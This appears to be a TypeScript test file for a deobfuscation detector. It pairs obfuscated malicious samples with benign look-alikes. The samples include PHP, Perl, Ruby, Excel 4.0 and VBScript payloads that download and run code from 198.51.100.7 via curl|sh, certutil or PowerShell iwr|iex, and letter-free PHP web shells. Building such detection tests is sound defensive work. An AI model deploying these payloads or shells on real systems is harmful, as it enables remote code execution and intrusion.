import { deobfCases, enc } from "./_deobf_testing.ts";
import { deflateRawSync } from "node:zlib";

const PHP = "system('curl -s http://198.51.100.7/w|sh');";
const PL = "system('curl -s http://198.51.100.7/w|sh')";
/** Two letter-free PHP strings whose XOR is `word` (the non-alphanumeric shell encoding). */
function xorPair(word: string): string {
  const pool = Array.from({ length: 95 }, (_, i) => String.fromCharCode(32 + i))
    .filter((c) => !/[A-Za-z'\\$]/.test(c));
  let a = "";
  let b = "";
  for (const c of word) {
    const x = pool.find((p) =>
      pool.includes(String.fromCharCode(p.charCodeAt(0) ^ c.charCodeAt(0)))
    );
    if (x === undefined) throw new Error(`no pair for ${c}`);
    a += x;
    b += String.fromCharCode(x.charCodeAt(0) ^ c.charCodeAt(0));
  }
  const q = (t: string) => `'${t.replace(/\\/g, "\\\\").replace(/'/g, "\\'")}'`;
  return `${q(a)}^${q(b)}`;
}
const l1 = (u: Uint8Array) => btoa(Array.from(u, (c) => String.fromCharCode(c)).join(""));

deobfCases("php_perl_ruby", [
  {
    id: "decoded",
    block: [
      // Round 46: Excel 4.0 / formula strings spelled with CHAR() codes.
      `=EXEC(${
        [..."cmd /c certutil -urlcache -f http://198.51.100.7/p.exe %TEMP%\\p.exe"].map((c) =>
          `CHAR(${c.charCodeAt(0)})`
        ).join("&")
      })`,
      `=CALL("Shell32","ShellExecuteA","JJCCCJJ",0,"open",${
        [..."powershell"].map((c) => `CHAR(${c.charCodeAt(0)})`).join("&")
      },"-w hidden -c iwr http://198.51.100.7/s.ps1|iex",0,0)`,
      // Round 46: letter-free PHP shells — XORed string literals and variable variables.
      `<?php $__=${xorPair("_POST")};\${$__}[0](\${$__}[1]);`,
      `<?php\n$f = ${xorPair("system")};\n$f($_REQUEST['q']);\n`,
      `<?php $_=${xorPair("_COOKIE")}; $g=${xorPair("assert")}; $g(\${$_}['z']);`,
      `php -r 'eval(str_rot13("${enc.rot13(PHP)}"));'`,
      `php -r 'eval(strrev("${enc.rev(PHP)}"));'`,
      `php -r 'eval(gzinflate(base64_decode("${l1(deflateRawSync(PHP))}")));'`,
      `php -r 'eval(hex2bin("${enc.hex(PHP)}"));'`,
      `php -r 'eval(gzinflate(base64_decode($_POST["c"])));'`,
      `perl -e 'eval pack("H*","${enc.hex(PL)}")'`,
      // Variable function assembled from pieces, and a decoder named through a string.
      `php -r '$f = "sys"."tem"; $f("curl -s http://198.51.100.7/w|sh");'`,
      `php -r '$d = "base"."64_decode"; eval($d("${enc.b64(PHP)}"));'`,
      // Escaped literal.
      `perl -e 'eval "${[...PL].map((c) => "\\x" + c.charCodeAt(0).toString(16)).join("")}"'`,
      // VBScript Chr chains.
      `CreateObject("WScript.Shell").Run ${
        [..."powershell -nop -w hidden -c IEX(iwr http://198.51.100.7/s.ps1)"].map((c) =>
          `Chr(${c.charCodeAt(0)})`
        ).join(" & ")
      }`,
      `perl -e 'eval(reverse("${enc.rev(PL)}"))'`,
      `ruby -e 'eval(["${enc.hex(PL)}"].pack("H*"))'`,
      `ruby -e 'eval("${enc.rev(PL).replaceAll('"', '\\"')}".reverse)'`,
    ],
    pass: [
      // Round 46 look-alikes: formulas that use CHAR() for a line break or a greeting.
      `=A2&CHAR(10)&B2&CHAR(10)&C2`,
      `=CONCATENATE(${
        [..."Total: "].map((c) => `CHAR(${c.charCodeAt(0)})`).join("&")
      }, SUM(B2:B9))`,
      // Round 46 look-alikes: a string XOR used as a checksum, a variable variable of a setting.
      `<?php $mask = "abc" ^ "xyz"; echo bin2hex($mask);`,
      `<?php \${'page_title'} = 'Home'; echo htmlspecialchars($page_title);`,
      `<?php $label = ${xorPair("hello")}; echo $label;`,
      `php -r 'echo base64_encode(file_get_contents("logo.png"));'`,
      `php -r 'echo strrev("hello");'`,
      `perl -e 'print reverse("abc")'`,
      `ruby -e 'puts "hello".reverse'`,
      `php -r '$f = "strtoupper"; echo $f("hello");'`,
      `MsgBox "Total: " & Chr(36) & Amount & Chr(13) & Chr(10)`,
      `php -r '$data = base64_decode($argv[1]); file_put_contents("cert.pem", $data);'`,
    ],
  },
]);
